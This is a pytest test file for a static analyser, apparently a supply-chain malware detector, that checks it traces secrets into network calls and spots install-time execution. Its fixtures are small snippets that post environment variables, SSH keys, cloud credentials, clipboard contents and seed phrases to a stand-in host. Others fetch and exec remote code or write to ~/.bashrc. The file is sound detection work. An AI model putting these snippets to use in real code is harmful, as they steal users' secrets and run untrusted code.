"""What flows from where to where, and when."""

import pytest
from python_reading import call, read_source, read_sources

from watchhouse.evidence.facts.code import Zone
from watchhouse.evidence.values import Sink, Source
from watchhouse.model.evidence import Moment

FLOWS = {
    "whole environment": (
        "import os, requests\nrequests.post('http://x.invalid', json=dict(os.environ))",
        Source.ENVIRONMENT,
    ),
    "through variables": (
        "import os, requests\na = os.environ\nb = {'e': a}\nrequests.post('u', json=b)",
        Source.ENVIRONMENT,
    ),
    "through a function": (
        "import os, requests\ndef g():\n    return os.environ\ndef p(d):\n    requests.post('u', data=d)\np(g())",
        Source.ENVIRONMENT,
    ),
    "host name": (
        "import socket, requests\nrequests.post('u', data={'h': socket.gethostname()})",
        Source.HOST_IDENTITY,
    ),
    "file by path": (
        "import os, requests\np = os.path.expanduser('~') + '/.ssh/id_rsa'\nrequests.post('u', data=open(p).read())",
        Source.SSH_KEY,
    ),
    "file by pathlib": (
        (
            "import requests\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\n"
            "requests.post('u', data=p.read_text())"
        ),
        Source.CLOUD_TOKEN,
    ),
    "with": (
        "import requests\nwith open('~/.aws/credentials') as f:\n    requests.post('u', data=f.read())",
        Source.CLOUD_TOKEN,
    ),
    "argument": (
        "import requests\ndef helper(private_key):\n    requests.post('u', json={'k': private_key})",
        Source.SECRET_ARGUMENT,
    ),
    "attribute": (
        (
            "import requests\nclass A:\n    def __init__(self, seed_phrase):\n        self.s = seed_phrase\n"
            "    def go(self):\n        requests.post('u', data=self.s)"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "clipboard": ("import pyperclip, requests\nrequests.post('u', data=pyperclip.paste())", Source.CLIPBOARD),
    "screenshot": (
        "from PIL import ImageGrab\nimport requests\ni = ImageGrab.grab()\nrequests.post('u', data=i)",
        Source.SCREENSHOT,
    ),
    "f-string": (
        'import os, requests\nrequests.post(f"http://x.invalid/?u={os.environ}")',
        Source.ENVIRONMENT,
    ),
    "loop": (
        "import os, requests\no = []\nfor k, v in os.environ.items():\n    o.append(k + v)\nrequests.post('u', data=o)",
        Source.ENVIRONMENT,
    ),
    "item by name": (
        "import requests\ndef go(cfg):\n    requests.post('u', data=cfg.get('private_key'))",
        Source.SECRET_ARGUMENT,
    ),
    "options by name": (
        "import requests\ndef go(**kw):\n    k = kw.pop('mnemonic')\n    requests.post('u', data=k)",
        Source.SECRET_ARGUMENT,
    ),
    "thread with named arguments": (
        (
            "import requests, threading\ndef s(x):\n    requests.post('u', data=x)\ndef go(private_key):\n"
            "    threading.Thread(target=s, kwargs={'x': private_key}).start()"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "timer": (
        (
            "import requests, threading\ndef s(x):\n    requests.post('u', data=x)\ndef go(private_key):\n"
            "    threading.Timer(5, s, [private_key]).start()"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "pool": (
        (
            "import requests, concurrent.futures\np = concurrent.futures.ThreadPoolExecutor()\ndef s(x):\n"
            "    requests.post('u', data=x)\ndef go(private_key):\n    p.submit(s, private_key)"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "own thread": (
        (
            "import requests, threading\nclass W(threading.Thread):\n    def __init__(self, v):\n        self.v = v\n"
            "    def run(self):\n        requests.post('u', data=self.v)\n"
            "def go(private_key):\n    W(private_key).start()"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "queue read before it is filled": (
        (
            "import requests, queue\nq = queue.Queue()\ndef w():\n    requests.post('u', data=q.get())\n"
            "def go(private_key):\n    q.put(private_key)"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "dictionary of the module": (
        (
            "import requests\nd = {}\ndef w():\n    requests.post('u', json=d)\n"
            "def go(private_key):\n    d['x'] = private_key"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "dictionary of an object": (
        (
            "import requests\nclass A:\n    def __init__(self):\n        self.d = {}\n    def w(self):\n"
            "        requests.post('u', json=self.d)\n    def go(self, private_key):\n        self.d['x'] = private_key"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "partial": (
        (
            "import requests, functools\nt = functools.partial(requests.post, 'u')\n"
            "def go(private_key):\n    t(data=private_key)"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "all variables": (
        "import requests\ndef go(private_key):\n    requests.post('u', json=locals())",
        Source.SECRET_ARGUMENT,
    ),
    "all attributes": (
        (
            "import requests\nclass A:\n    def __init__(self, seed_phrase):\n        self.s = seed_phrase\n"
            "        requests.post('u', json=vars(self))"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "dataclass": (
        (
            "import requests\nfrom dataclasses import dataclass, asdict\n@dataclass\nclass A:\n    private_key: str\n"
            "def s(a):\n    requests.post('u', json=asdict(a))\ndef go(k):\n    s(A(private_key=k))"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "decorated function": (
        (
            "import requests\ndef t(f):\n    def inner(*a, **k):\n        requests.post('u', data=repr(a))\n"
            "        return f(*a, **k)\n    return inner\n@t\ndef load(private_key):\n    return 1"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "wrapper": (
        (
            "import requests\ndef t(f):\n    def inner(*a, **k):\n        requests.post('u', data=repr(a))\n"
            "        return f(*a, **k)\n    return inner"
        ),
        Source.PASSED_THROUGH,
    ),
    "key pair": (
        (
            "import requests\nfrom solders.keypair import Keypair\ndef load(s):\n"
            "    requests.post('u', data=str(Keypair.from_base58_string(s)))"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "what proves to be a key": (
        (
            "import requests\nfrom eth_account import Account\ndef load(value):\n    requests.post('u', data=value)\n"
            "    return Account.from_key(value)"
        ),
        Source.SECRET_ARGUMENT,
    ),
    "prompt": (
        "import requests\nrequests.post('u', data=input('Your seed phrase: '))",
        Source.SECRET_ARGUMENT,
    ),
    "hidden prompt": (
        "import requests, getpass\nrequests.post('u', data=getpass.getpass())",
        Source.SECRET_ARGUMENT,
    ),
    "option of a command": (
        (
            "import requests, click\n@click.command()\n@click.option('--key', prompt='Private key')\n"
            "def login(key):\n    requests.post('u', data=key)"
        ),
        Source.SECRET_ARGUMENT,
    ),
}

NO_SECRETS = {
    "address": "a = Account.from_key(private_key)\n    requests.post('u', data=a.address)",
    "public key": "k = Keypair.from_bytes(private_key)\n    requests.post('u', data=str(k.pubkey()))",
    "signed": "a = Account.from_key(private_key)\n    requests.post('u', data=a.sign_transaction(tx).hex())",
    "signed with": "s = w3.eth.account.sign_transaction(tx, private_key)\n    requests.post('u', data=s)",
    "authenticated": "h = hmac.new(api_secret, tx).hexdigest()\n    requests.post('u', data=h)",
}


@pytest.mark.parametrize("body", NO_SECRETS.values(), ids=NO_SECRETS.keys())
def test_what_only_uses_a_secret_is_none(body: str) -> None:
    """An address, a public key and a signature may be shown to anybody."""
    head = "import hmac, requests\nfrom eth_account import Account\nfrom solders.keypair import Keypair\n"
    facts = read_source(f"{head}def go(w3, tx, private_key, api_secret):\n    {body}")
    assert not call(facts, "requests.post").receives(Source.SECRET_ARGUMENT)


SILENCE = {
    "pass": ("try:\n    requests.post('u')\nexcept Exception:\n    pass", (True, True)),
    "suppress": ("with contextlib.suppress(OSError):\n    requests.post('u')", (True, True)),
    "used": ("answer = requests.post('u')", (False, False)),
    "told": ("try:\n    requests.post('u')\nexcept Exception as error:\n    print(error)", (True, False)),
    "through a function": (
        "def s():\n    requests.post('u')\ntry:\n    s()\nexcept OSError:\n    pass",
        (True, True),
    ),
}


@pytest.mark.parametrize(("source", "expected"), SILENCE.values(), ids=SILENCE.keys())
def test_a_call_knows_whether_anybody_looks_at_it(source: str, expected: tuple[bool, bool]) -> None:
    """Nobody looks at what it gives, and nobody hears of its failure: each is said."""
    found = call(read_source(f"import contextlib, requests\n{source}"), "requests.post")
    assert (found.discarded, found.silenced) == expected


@pytest.mark.parametrize(("source", "expected"), FLOWS.values(), ids=FLOWS.keys())
def test_a_source_is_followed_into_the_network(source: str, expected: Source) -> None:
    """What is sent carries the name of where it came from."""
    assert call(read_source(source), "requests.post").receives(expected)


def test_a_file_written_from_the_network_and_run_is_one_flow() -> None:
    """Fetched content that is written to a file taints the process started from that file."""
    facts = read_source(
        "import requests, subprocess\nd = requests.get('http://x.invalid/a').content\n"
        "open('a.bin', 'wb').write(d)\nsubprocess.Popen('a.bin')"
    )

    assert call(facts, "subprocess.Popen").receives(Source.REMOTE_CONTENT)


def test_fetched_text_that_is_executed_is_one_flow() -> None:
    """Fetched content in exec carries the address it came from."""
    facts = read_source("import urllib.request as u\nexec(u.urlopen('http://x.invalid/a').read())")

    assert [taint.detail for taint in call(facts, "builtins.exec").taints] == ["http://x.invalid/a"]


def test_a_start_up_place_is_a_sink_of_its_own() -> None:
    """Writing to a shell profile is told from writing to any file."""
    facts = read_source("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')")

    assert call(facts, "builtins.open().write").sink is Sink.STARTUP


SETUP = """
from setuptools import setup
from setuptools.command.install import install
import os
class Run(install):
    def run(self):
        os.system('at install')
def later():
    os.system('when called')
os.system('at top level')
setup(name='x', cmdclass={'install': Run})
"""


def test_setup_runs_at_install_and_what_nobody_calls_does_not() -> None:
    """The top level of setup.py and its commands run at install, other functions only when called."""
    facts = read_source(SETUP, Zone.INSTALLER)

    moments = {one.text: one.moment for one in facts.calls if one.name == "os.system"}
    assert moments == {
        "at install": Moment.INSTALL,
        "at top level": Moment.INSTALL,
        "when called": Moment.CALL,
    }


def test_what_setup_imports_runs_at_install() -> None:
    """A module of the package that setup.py imports runs while installing."""
    facts = read_sources(
        {
            "setup.py": "import pkg\nfrom setuptools import setup\nsetup()",
            "pkg/__init__.py": "import os\nos.system('x')",
        },
        {"setup.py": Zone.INSTALLER},
    )

    assert call(facts["pkg/__init__.py"], "os.system").moment is Moment.INSTALL


def test_an_entry_point_runs_from_the_command_line() -> None:
    """What a console script names runs at its call."""
    facts = read_sources(
        {"pkg/cli.py": "import os\ndef main():\n    os.system('x')"}, entry_points=("pkg.cli:main",)
    )

    assert call(facts["pkg/cli.py"], "os.system").moment is Moment.ENTRY


def test_a_thread_s_target_runs_when_the_thread_is_made() -> None:
    """A function handed to a thread at import runs at import."""
    facts = read_source(
        "import threading, os\ndef f():\n    os.system('x')\nthreading.Thread(target=f).start()"
    )

    assert call(facts, "os.system").moment is Moment.IMPORT


def test_a_patched_method_is_an_assignment_worth_a_record() -> None:
    """Putting a function in the place of a library's is recorded as setattr."""
    facts = read_source("import requests\ndef f(self, private_key):\n    pass\nrequests.Session.send = f")

    found = call(facts, "builtins.setattr")
    assert (found.arguments[0].name, found.arguments[1].const) == ("requests.Session", "send")
